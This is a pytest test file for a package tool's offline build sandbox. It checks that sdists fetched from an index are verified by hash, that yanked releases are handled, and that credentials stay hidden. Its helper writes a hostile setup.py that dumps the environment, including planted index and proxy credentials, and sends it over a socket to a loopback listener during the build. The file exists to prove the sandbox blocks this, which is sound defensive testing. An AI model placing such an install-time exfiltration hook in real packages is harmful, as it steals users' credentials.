"""An sdist-only requirement fetched by name: its ``setup.py`` never runs with the network or
the user's credentials. The sdist is found on the index (PEP 503) and downloaded by siglink
itself, then built in the offline sandbox. A hostile ``setup.py`` tries to reach a listener on
the host's loopback and records what it saw (its environment, whether it connected) into the
package it builds; the test reads that record from the wheel."""

from __future__ import annotations

import base64
import hashlib
import html
import json
import os
import socket
import tarfile
import textwrap
import threading
import zipfile
from collections.abc import Iterator
from functools import partial
from http.server import SimpleHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import pytest

from siglink import _sandbox
from siglink.cli.main import main
from siglink.demo.wheels import make_wheel
from siglink.errors import FetchError
from siglink.store.fetch import fetch, yanked_on_index

needs_bwrap = pytest.mark.skipif(_sandbox.bwrap() is None,
                                 reason="bubblewrap (bwrap) is not installed")

SECRET = "S3CRET-TOKEN"


def _sdist(folder: Path, version: str, port: int) -> Path:
    project = folder / f"probesd-{version}"
    (project / "probesd").mkdir(parents=True)
    (project / "setup.py").write_text(textwrap.dedent(f"""\
        import json, os, socket
        seen = {{"env": dict(os.environ), "connected": False}}
        try:
            with socket.create_connection(("127.0.0.1", {port}), timeout=3) as s:
                s.sendall(json.dumps(seen["env"]).encode())
                seen["connected"] = True
        except OSError as e:
            seen["error"] = str(e)
        with open(os.path.join("probesd", "__init__.py"), "w") as f:
            f.write("SEEN = " + repr(json.dumps(seen)) + "\\n")
        from setuptools import setup
        setup(name="probesd", version="{version}", packages=["probesd"])
        """))
    (project / "probesd" / "__init__.py").write_text("")
    (project / "PKG-INFO").write_text(
        f"Metadata-Version: 2.1\nName: probesd\nVersion: {version}\n")
    sdist = folder / f"probesd-{version}.tar.gz"
    with tarfile.open(sdist, "w:gz") as archive:
        archive.add(project, arcname=f"probesd-{version}")
    return sdist


def _index(root: Path, links: list[str]) -> str:
    page = root / "simple" / "probesd"
    page.mkdir(parents=True)
    (page / "index.html").write_text("<!DOCTYPE html><html><body>\n" + "\n".join(links)
                                     + "\n</body></html>\n")
    return (root / "simple").as_uri()


def _link(sdist: Path, files: Path, *, digest: str | None = None, extra: str = "") -> str:
    files.mkdir(parents=True, exist_ok=True)
    (files / sdist.name).write_bytes(sdist.read_bytes())
    digest = digest or hashlib.sha256(sdist.read_bytes()).hexdigest()
    return (f'<a href="../../files/{html.escape(sdist.name)}#sha256={digest}"{extra}>'
            f"{html.escape(sdist.name)}</a>")


class _Listener:
    """A TCP listener on the host's loopback recording what any connection sends."""

    def __init__(self) -> None:
        self.socket = socket.create_server(("127.0.0.1", 0))
        self.port = self.socket.getsockname()[1]
        self.received: list[bytes] = []
        self.thread = threading.Thread(target=self._serve, daemon=True)
        self.thread.start()

    def _serve(self) -> None:
        while True:
            try:
                connection, _ = self.socket.accept()
            except OSError:
                return
            with connection:
                connection.settimeout(3)
                try:
                    self.received.append(connection.recv(1 << 20) or b"(connected)")
                except OSError:
                    self.received.append(b"(connected)")

    def close(self) -> None:
        self.socket.close()


@pytest.fixture
def listener() -> object:
    found = _Listener()
    yield found
    found.close()


@needs_bwrap
def test_a_hostile_sdist_reaches_no_loopback_and_sees_no_credentials(
    tmp_path: Path, listener: _Listener, monkeypatch: pytest.MonkeyPatch,
) -> None:
    made, root = tmp_path / "made", tmp_path / "index"
    made.mkdir()
    files = root / "files"
    url = _index(root, [_link(_sdist(made, "1.2", listener.port), files),
                        _link(_sdist(made, "1.0", listener.port), files)])
    monkeypatch.setenv("PIP_EXTRA_INDEX_URL", f"http://alice:{SECRET}@127.0.0.1:1/simple")
    monkeypatch.setenv("PIP_RETRIES", "0")
    monkeypatch.setenv("PIP_TIMEOUT", "2")
    monkeypatch.setenv("HTTPS_PROXY", f"http://bob:{SECRET}@127.0.0.1:1")
    monkeypatch.setenv("NO_PROXY", "*")  # an unreachable extra index is passed over, as pip does
    wheel = fetch("probesd==1.2", tmp_path / "out", index_url=url)
    assert wheel.name.startswith("probesd-1.2-")
    with zipfile.ZipFile(wheel) as archive:
        text = archive.read("probesd/__init__.py").decode()
    seen = json.loads(text.split("=", 1)[1].strip().strip("'\""))
    assert seen["connected"] is False
    assert listener.received == []
    assert SECRET not in json.dumps(seen["env"])
    assert not any(k.upper().endswith("_PROXY") or k.startswith("PIP_INDEX")
                   or k.startswith("PIP_EXTRA") for k in seen["env"])


@needs_bwrap
def test_the_newest_allowed_unyanked_sdist_is_chosen_and_its_hash_checked(
    tmp_path: Path, listener: _Listener,
) -> None:
    made, root = tmp_path / "made", tmp_path / "index"
    made.mkdir()
    files = root / "files"
    url = _index(root, [
        _link(_sdist(made, "1.0", listener.port), files),
        _link(_sdist(made, "1.1", listener.port), files),
        _link(_sdist(made, "2.0", listener.port), files, extra=' data-yanked=""'),
        _link(_sdist(made, "3.0", listener.port), files,
              extra=' data-requires-python="&lt;3"'),
        _link(_sdist(made, "1.5", listener.port), files, digest="0" * 64),
    ])
    assert fetch("probesd>=1,<1.5", tmp_path / "a", index_url=url).name.startswith(
        "probesd-1.1-")
    assert fetch("probesd==2.0", tmp_path / "b", index_url=url).name.startswith(
        "probesd-2.0-")  # a yanked release only when pinned (PEP 592)
    with pytest.raises(FetchError, match="does not have the sha256"):
        fetch("probesd==1.5", tmp_path / "c", index_url=url)
    with pytest.raises(FetchError, match="no sdist of it"):
        fetch("probesd==3.0", tmp_path / "d", index_url=url)
    assert listener.received == []


@needs_bwrap
def test_an_index_behind_basic_authentication_is_read_without_showing_the_password(
    tmp_path: Path, listener: _Listener,
) -> None:
    """The index URL's userinfo is sent as basic authentication (pip does the same); a wrong
    password is refused by the index, and the message does not carry it."""
    made, root = tmp_path / "made", tmp_path / "index"
    made.mkdir()
    _index(root, [_link(_sdist(made, "1.2", listener.port), root / "files")])
    good = "Basic " + base64.b64encode(f"alice:{SECRET}".encode()).decode()

    class _Guarded(SimpleHTTPRequestHandler):
        def do_GET(self) -> None:
            if self.headers.get("Authorization") != good:
                self.send_error(401)
                return
            super().do_GET()

        def log_message(self, format: str, *args: object) -> None:
            return None

    server = ThreadingHTTPServer(("127.0.0.1", 0), partial(_Guarded, directory=str(root)))
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    try:
        port = server.server_port
        wheel = fetch("probesd==1.2", tmp_path / "a",
                      index_url=f"http://alice:{SECRET}@127.0.0.1:{port}/simple")
        assert wheel.name.startswith("probesd-1.2-")
        with pytest.raises(FetchError) as refused:
            fetch("probesd==1.2", tmp_path / "b",
                  index_url=f"http://alice:WRONG-{SECRET}@127.0.0.1:{port}/simple")
        assert SECRET not in str(refused.value)
    finally:
        server.shutdown()
        server.server_close()
    assert listener.received == []


class _Index:
    """``root`` served over HTTP on the loopback, every request needing ``alice:SECRET`` (basic
    authentication); ``url`` is its simple index with those credentials in it."""

    def __init__(self, root: Path) -> None:
        good = "Basic " + base64.b64encode(f"alice:{SECRET}".encode()).decode()

        class _Guarded(SimpleHTTPRequestHandler):
            def do_GET(self) -> None:
                if self.headers.get("Authorization") != good:
                    self.send_error(401)
                    return
                super().do_GET()

            def log_message(self, format: str, *args: object) -> None:
                return None

        self.server = ThreadingHTTPServer(("127.0.0.1", 0),
                                          partial(_Guarded, directory=str(root)))
        self.files = f"http://127.0.0.1:{self.server.server_port}/files"
        self.url = f"http://alice:{SECRET}@127.0.0.1:{self.server.server_port}/simple"
        threading.Thread(target=self.server.serve_forever, daemon=True).start()

    def close(self) -> None:
        self.server.shutdown()
        self.server.server_close()


def _page(root: Path, project: str, links: list[str]) -> None:
    page = root / "simple" / project
    page.mkdir(parents=True)
    (page / "index.html").write_text("<!DOCTYPE html><html><body>\n" + "\n".join(links)
                                     + "\n</body></html>\n")


@pytest.fixture
def served(tmp_path: Path, listener: _Listener,
           monkeypatch: pytest.MonkeyPatch) -> Iterator[tuple[_Index, Path]]:
    """An index behind basic authentication: ``probesd`` 1.2 and 1.0 as sdists only (1.2
    yanked, with a reason), ``probelib`` 1.0 a wheel requiring ``probesd==1.2``; the user's pip
    settings name a second index and a proxy, both with credentials. Yields the index and the
    sdist of 1.2."""
    made, root = tmp_path / "made", tmp_path / "index"
    made.mkdir()
    files = root / "files"
    sdist = _sdist(made, "1.2", listener.port)
    _page(root, "probesd", [_link(sdist, files, extra=' data-yanked="broken build"'),
                            _link(_sdist(made, "1.0", listener.port), files)])
    wheel = make_wheel(made, "probelib", "1.0", {"probelib/__init__.py": "X = 1\n"},
                       requires=("probesd==1.2",))
    _page(root, "probelib", [_link(wheel, files)])
    monkeypatch.setenv("PIP_EXTRA_INDEX_URL", f"http://carol:{SECRET}@127.0.0.1:1/simple")
    monkeypatch.setenv("PIP_RETRIES", "0")
    monkeypatch.setenv("PIP_TIMEOUT", "2")
    monkeypatch.setenv("HTTPS_PROXY", f"http://bob:{SECRET}@127.0.0.1:1")
    monkeypatch.setenv("NO_PROXY", "*")
    index = _Index(root)
    yield index, sdist
    index.close()


def _seen(store: Path) -> dict[str, object]:
    """What the sdist's ``setup.py`` recorded as it was built, from the installed package."""
    text = (store / "libs" / "probesd" / "1.2" / "probesd" / "__init__.py").read_text()
    seen: dict[str, object] = json.loads(text.split("=", 1)[1].strip().strip("'\""))
    return seen


@needs_bwrap
@pytest.mark.parametrize("how", ["dependency", "direct URL", "-r direct URL",
                                 "direct URL --no-deps"])
def test_an_install_with_dependencies_builds_the_sdist_offline(
    tmp_path: Path, listener: _Listener, served: tuple[_Index, Path], how: str,
    capsys: pytest.CaptureFixture[str],
) -> None:
    """``siglink install probelib==1.0``, whose dependency is sdist-only, or the sdist by its
    URL (given, or in a requirements file): its ``setup.py`` runs without the network and
    sees no index URL, credentials or proxy."""
    index, sdist = served
    digest = hashlib.sha256(sdist.read_bytes()).hexdigest()
    url = f"probesd @ {index.files}/{sdist.name}#sha256={digest}"
    args = {"dependency": ["probelib==1.0"], "direct URL": [url],
            "direct URL --no-deps": [url, "--no-deps"]}.get(how, [])
    if how == "-r direct URL":
        (tmp_path / "requirements.txt").write_text(f"{url}\n")
        args = ["-r", str(tmp_path / "requirements.txt")]
    store = tmp_path / "store"
    code = main(["install", *args, "--index-url", index.url, "--store", str(store)])
    out, err = capsys.readouterr()
    assert code == 0, err
    assert "installed probesd==1.2" in out
    seen = _seen(store)
    assert seen["connected"] is False
    assert listener.received == []
    assert SECRET not in json.dumps(seen["env"])
    assert not any(k.upper().endswith("_PROXY") or k.startswith(("PIP_INDEX", "PIP_EXTRA"))
                   for k in seen["env"])  # type: ignore[attr-defined]
    assert SECRET not in out + err


@needs_bwrap
def test_a_direct_url_whose_sdist_has_another_sha256_is_refused(
    tmp_path: Path, listener: _Listener, served: tuple[_Index, Path],
    capsys: pytest.CaptureFixture[str],
) -> None:
    index, sdist = served
    store = tmp_path / "store"
    code = main(["install", f"probesd @ {index.files}/{sdist.name}#sha256={'0' * 64}",
                 "--index-url", index.url, "--store", str(store)])
    err = capsys.readouterr().err
    assert code == 4, err
    assert err.splitlines()[-1].removesuffix("; nothing was installed") == (
        f"siglink: error: probesd @ {index.files}/{sdist.name}#sha256={'0' * 64}: "
        f"{sdist.name} does not have the sha256 the index gave; refused")
    assert listener.received == []


def test_yanked_releases_are_read_from_the_index_pages(
    listener: _Listener, served: tuple[_Index, Path],
) -> None:
    """PEP 592's ``data-yanked``, read by siglink from the project pages: no pip, so no sdist
    is prepared (its ``setup.py`` would reach the listener)."""
    index, _ = served
    yanked, absent = yanked_on_index(
        [("probesd", "1.2"), ("ProbeSD", "1.0"), ("probesd", "9.9"), ("probelib", "1.0")],
        index_url=index.url)
    assert yanked == {("probesd", "1.2"): "broken build"}
    assert absent == {("probesd", "9.9")}
    assert listener.received == []


def test_yanked_on_an_index_that_cannot_be_read_is_an_error(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    monkeypatch.setenv("PIP_EXTRA_INDEX_URL", "")
    monkeypatch.setenv("PIP_FIND_LINKS", "")
    monkeypatch.setenv("PIP_CONFIG_FILE", os.devnull)
    with pytest.raises(FetchError) as refused:
        yanked_on_index([("probesd", "1.2")],
                        index_url=f"http://alice:{SECRET}@127.0.0.1:1/simple")
    assert refused.value.message.startswith(
        "probesd: cannot be fetched from the package index: it cannot be read "
        "(http://127.0.0.1:1/simple/probesd/: ")
    assert SECRET not in refused.value.message


def test_without_a_sandbox_the_users_leave_lets_pip_resolve_and_build(
    tmp_path: Path, served: tuple[_Index, Path], monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
) -> None:
    """``SIGLINK_ALLOW_UNSANDBOXED_BUILD=1`` and no bubblewrap: pip resolves, downloads and
    builds the sdist-only dependency with the user's rights, as it would on its own."""
    index, _ = served
    monkeypatch.setenv("PATH", str(tmp_path / "made"))  # no bwrap to be found
    monkeypatch.setenv("SIGLINK_ALLOW_UNSANDBOXED_BUILD", "1")
    store = tmp_path / "store"
    code = main(["install", "probelib==1.0", "--index-url", index.url, "--store", str(store)])
    out, err = capsys.readouterr()
    assert code == 0, err
    assert "installed probesd==1.2" in out
    assert _seen(store)["connected"] is True  # what the sandbox prevents
